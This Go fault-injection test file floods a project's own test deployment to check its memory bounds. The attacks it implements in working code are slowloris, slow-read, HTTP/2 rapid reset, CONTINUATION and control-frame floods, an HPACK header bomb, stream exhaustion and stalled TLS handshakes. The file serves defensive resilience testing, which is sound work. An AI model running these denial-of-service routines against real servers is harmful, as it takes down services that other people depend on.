//go:build system && fault

package system

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// TestFault_AbuseHTTP floods the public door in all the ways that HTTP knows. The bounds
// of memory are: 32 KiB of each connection that may be open at a time, buffers included,
// and 64 MiB for what the collector has not freed yet.
func TestFault_AbuseHTTP(t *testing.T) {
	attacked(t, []namedAttack{
		{"slowloris", 384, slowloris},
		{"one_address", 128, oneAddress},
		{"rapid_reset", 128, rapidReset},
		{"continuation", 128, continuations},
		{"settings_and_pings", 128, controlFrames},
		{"huge_headers", 128, hugeHeaders},
		{"many_streams", 192, manyStreams},
		{"slow_read", 256, slowRead},
	})
}

// TestFault_AbuseTLS stalls handshakes: half of them say nothing, half send a piece of
// a ClientHello.
func TestFault_AbuseTLS(t *testing.T) {
	d := single(t, "-tls.mode=self")
	g := &good{d: d, page: clientFrom(goodAddress), took: map[string][]time.Duration{}}
	sockets := scaled(2000, 10_000)
	d.under(g, 384, func(ctx context.Context, d *deployment) string {
		c := d.sockets(ctx, sockets, 250, func(i int, conn net.Conn) {
			if i%2 == 0 {
				_, _ = conn.Write([]byte{0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00}) // a record of 512 bytes that does not come
			}
		}, nil)
		return fmt.Sprintf("%d stalled handshakes, %d opened", sockets, c)
	})
}

// sockets keeps n connections open, perAddress of each attacker's address: one that the
// server closes is opened again, at most 2,500 a second. begin sends what comes first, more
// what comes each second.
func (d *deployment) sockets(ctx context.Context, n, perAddress int, begin func(i int, c net.Conn), more func(i int, c net.Conn)) (opened int64) {
	var count atomic.Int64
	conns := make([]net.Conn, n)
	dead := make(chan int, n)
	for i := range n {
		dead <- i
	}
	var mu sync.Mutex
	var wg sync.WaitGroup
	open := func(i int) {
		c, err := d.dialFrom(ctx, i/perAddress)
		if err != nil {
			if ctx.Err() == nil {
				dead <- i
			}
			return
		}
		count.Add(1)
		begin(i, c)
		mu.Lock()
		conns[i] = c
		mu.Unlock()
		wg.Go(func() {
			_, _ = io.Copy(io.Discard, c) // until the server closes it
			_ = c.Close()
			if ctx.Err() == nil {
				dead <- i
			}
		})
	}
	wg.Go(func() {
		paced(ctx, 2500, func(int) {
			select {
			case i := <-dead:
				open(i)
			default:
			}
		})
	})
	if more != nil {
		wg.Go(func() {
			paced(ctx, n, func(i int) {
				mu.Lock()
				c := conns[i%n]
				mu.Unlock()
				if c != nil {
					more(i%n, c)
				}
			})
		})
	}
	<-ctx.Done()
	mu.Lock()
	for _, c := range conns {
		if c != nil {
			_ = c.Close()
		}
	}
	mu.Unlock()
	wg.Wait()
	return count.Load()
}

// slowloris holds 10,000 sockets with a header that comes a byte at a time.
func slowloris(ctx context.Context, d *deployment) string {
	const sockets = 10_000
	opened := d.sockets(ctx, sockets, 250, func(_ int, c net.Conn) {
		_, _ = io.WriteString(c, "GET / HTTP/1.1\r\nHost: a\r\nX-A: ")
	}, func(_ int, c net.Conn) {
		_, _ = c.Write([]byte("b"))
	})
	return fmt.Sprintf("%d sockets of 40 addresses, %d opened, a byte a second each", sockets, opened)
}

// oneAddress holds 1,000 connections of one address, and uses each once a second.
func oneAddress(ctx context.Context, d *deployment) string {
	opened := d.sockets(ctx, 1000, 1000, func(int, net.Conn) {}, func(_ int, c net.Conn) {
		_, _ = io.WriteString(c, "GET / HTTP/1.1\r\nHost: a\r\n\r\n")
	})
	return fmt.Sprintf("1000 connections of one address, %d opened, a request a second each", opened)
}

// h2 is a connection of HTTP/2 to write frames on.
type h2 struct {
	net.Conn
	*http2.Framer
	stream uint32
}

// http2From opens one from an attacker's address. What the server sends is read and
// thrown away, unless deaf.
func (d *deployment) http2From(ctx context.Context, n int, deaf bool, settings ...http2.Setting) (*h2, error) {
	c, err := d.dialFrom(ctx, n)
	if err != nil {
		return nil, err
	}
	if deaf {
		_ = c.(*net.TCPConn).SetReadBuffer(4096)
	} else {
		go func() { _, _ = io.Copy(io.Discard, c); _ = c.Close() }()
	}
	f := &h2{Conn: c, Framer: http2.NewFramer(c, c), stream: 1}
	_, err = io.WriteString(c, http2.ClientPreface)
	if err == nil {
		err = f.WriteSettings(settings...)
	}
	if err != nil {
		_ = c.Close()
		return nil, err
	}
	return f, nil
}

func headerBlock(method, path string, more ...string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	fields := append([]string{":method", method, ":scheme", "http", ":path", path, ":authority", "a"}, more...)
	for i := 0; i+1 < len(fields); i += 2 {
		_ = e.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // into memory
	}
	return b.Bytes()
}

// frames runs workers, each with a connection of its own that is opened again when the
// server closes it, at rate calls of send a second together.
func (d *deployment) frames(ctx context.Context, workers, rate int, deaf bool, send func(c *h2) error, settings ...http2.Setting) (sent, opened int64) {
	var s, o atomic.Int64
	var wg sync.WaitGroup
	for n := range workers {
		wg.Go(func() {
			var c *h2
			next := time.Time{}
			paced(ctx, rate/workers, func(int) {
				if c == nil {
					if time.Now().Before(next) {
						return
					}
					next = time.Now().Add(100 * time.Millisecond)
					var err error
					if c, err = d.http2From(ctx, n, deaf, settings...); err != nil {
						c = nil
						return
					}
					o.Add(1)
				}
				_ = c.SetWriteDeadline(time.Now().Add(time.Second))
				if err := send(c); err != nil {
					_ = c.Close()
					c = nil
					return
				}
				s.Add(1)
			})
			if c != nil {
				_ = c.Close()
			}
		})
	}
	wg.Wait()
	return s.Load(), o.Load()
}

// rapidReset opens streams and resets them at once (CVE-2023-44487).
func rapidReset(ctx context.Context, d *deployment) string {
	block := headerBlock("GET", "/")
	rate := scaled(3000, 6000)
	sent, opened := d.frames(ctx, 20, rate, false, func(c *h2) error {
		err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: block, EndHeaders: true, EndStream: true})
		if err == nil {
			err = c.WriteRSTStream(c.stream, http2.ErrCodeCancel)
		}
		c.stream += 2
		return err
	})
	return fmt.Sprintf("%d resets (%d/s) on %d connections of 20 addresses", sent, rate, opened)
}

// continuations sends headers that never end (CVE-2023-45288).
func continuations(ctx context.Context, d *deployment) string {
	piece := bytes.Repeat(headerBlock("GET", "/", "x-a", strings.Repeat("a", 500))[20:], 1)
	piece = append(piece, bytes.Repeat([]byte{0x40, 0x01, 'x', 0x01, 'y'}, 3000)...) // literals for the table
	rate := scaled(500, 1000)
	sent, opened := d.frames(ctx, 20, rate, false, func(c *h2) error {
		if c.stream == 1 {
			c.stream = 3
			return c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headerBlock("GET", "/")})
		}
		return c.WriteContinuation(1, false, piece)
	})
	return fmt.Sprintf("%d CONTINUATION frames of 15 kB (%d/s) on %d connections", sent, rate, opened)
}

// controlFrames sends SETTINGS and PING, half of them without reading what they cause
// (CVE-2019-9512, CVE-2019-9515).
func controlFrames(ctx context.Context, d *deployment) string {
	rate := scaled(10_000, 20_000)
	var wg sync.WaitGroup
	var sent, opened [2]int64
	for i, deaf := range []bool{false, true} {
		wg.Go(func() {
			turn := atomic.Int64{}
			sent[i], opened[i] = d.frames(ctx, 10, rate/2, deaf, func(c *h2) error {
				if turn.Add(1)%2 == 0 {
					return c.WritePing(false, [8]byte{1})
				}
				return c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
			})
		})
	}
	wg.Wait()
	return fmt.Sprintf("%d SETTINGS and PING (%d/s) on %d connections, half of them deaf", sent[0]+sent[1], rate, opened[0]+opened[1])
}

// hugeHeaders sends headers of a megabyte: HTTP/1.1, and HTTP/2 by a small block that
// the table makes large (the HPACK bomb, CVE-2016-6581).
func hugeHeaders(ctx context.Context, d *deployment) string {
	rate := scaled(100, 200)
	line := strings.Repeat("X-A: "+strings.Repeat("a", 1000)+"\r\n", 1000)
	var wg sync.WaitGroup
	var plain atomic.Int64
	wg.Go(func() {
		var sending sync.WaitGroup
		defer sending.Wait()
		paced(ctx, rate/2, func(i int) {
			sending.Go(func() {
				c, err := d.dialFrom(ctx, i%20)
				if err != nil {
					return
				}
				defer c.Close()
				_ = c.SetDeadline(time.Now().Add(5 * time.Second))
				_, _ = io.WriteString(c, "GET / HTTP/1.1\r\nHost: a\r\n")
				_, _ = io.WriteString(c, line)
				plain.Add(1)
			})
		})
	})
	var b bytes.Buffer
	b.Write(headerBlock("GET", "/", "x-b", strings.Repeat("b", 3900)))
	b.Write(bytes.Repeat([]byte{0x80 | 62}, 8000)) // the newest entry of the table, 31 MB in all
	bomb := b.Bytes()
	sent, opened := d.frames(ctx, 10, rate, false, func(c *h2) error {
		err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: bomb, EndHeaders: true, EndStream: true})
		c.stream += 2
		return err
	})
	wg.Wait()
	return fmt.Sprintf("%d headers of 1 MB, %d header bombs of 31 MB on %d connections (%d/s)", plain.Load(), sent, opened, rate+rate/2)
}

// manyStreams opens as many streams as it can with a body that does not come.
func manyStreams(ctx context.Context, d *deployment) string {
	block := headerBlock("POST", "/oauth/token", "content-type", "application/x-www-form-urlencoded", "content-length", "1000")
	rate := scaled(2000, 4000)
	sent, opened := d.frames(ctx, 40, rate, false, func(c *h2) error {
		err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: block, EndHeaders: true})
		if err == nil {
			err = c.WriteData(c.stream, false, []byte("a"))
		}
		c.stream += 2
		return err
	})
	return fmt.Sprintf("%d streams without an end (%d/s) on %d connections of 40 addresses", sent, rate, opened)
}

// slowRead asks for the largest answer on many connections and reads nothing of it.
func slowRead(ctx context.Context, d *deployment) string {
	_, _, page := d.get("/")
	script := ""
	for part := range strings.SplitSeq(string(page), `"`) {
		if strings.HasPrefix(part, "/assets/") && strings.HasSuffix(part, ".js") {
			script = part
		}
	}
	if script == "" {
		d.Error("the page has no script")
	}
	block := headerBlock("GET", script)
	rate := scaled(1000, 2000)
	var wg sync.WaitGroup
	var opened int64
	wg.Go(func() {
		dial := func(_ int, c net.Conn) {
			_ = c.(*net.TCPConn).SetReadBuffer(2048)
			_, _ = io.WriteString(c, strings.Repeat("GET "+script+" HTTP/1.1\r\nHost: a\r\n\r\n", 20))
		}
		opened = d.deafSockets(ctx, 1000, 50, dial)
	})
	sent, conns := d.frames(ctx, 20, rate, true, func(c *h2) error {
		err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: block, EndHeaders: true, EndStream: true})
		c.stream += 2
		return err
	}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20})
	wg.Wait()
	return fmt.Sprintf("%d connections that ask for 20 × 220 kB and read nothing; %d such streams on %d connections", opened, sent, conns)
}

// deafSockets opens n connections that are never read.
func (d *deployment) deafSockets(ctx context.Context, n, perAddress int, begin func(i int, c net.Conn)) (opened int64) {
	conns := make([]net.Conn, 0, n)
	paced(ctx, 500, func(i int) {
		if i >= n {
			return
		}
		if c, err := d.dialFrom(ctx, i/perAddress); err == nil {
			begin(i, c)
			conns = append(conns, c)
		}
	})
	for _, c := range conns {
		_ = c.Close()
	}
	return int64(len(conns))
}
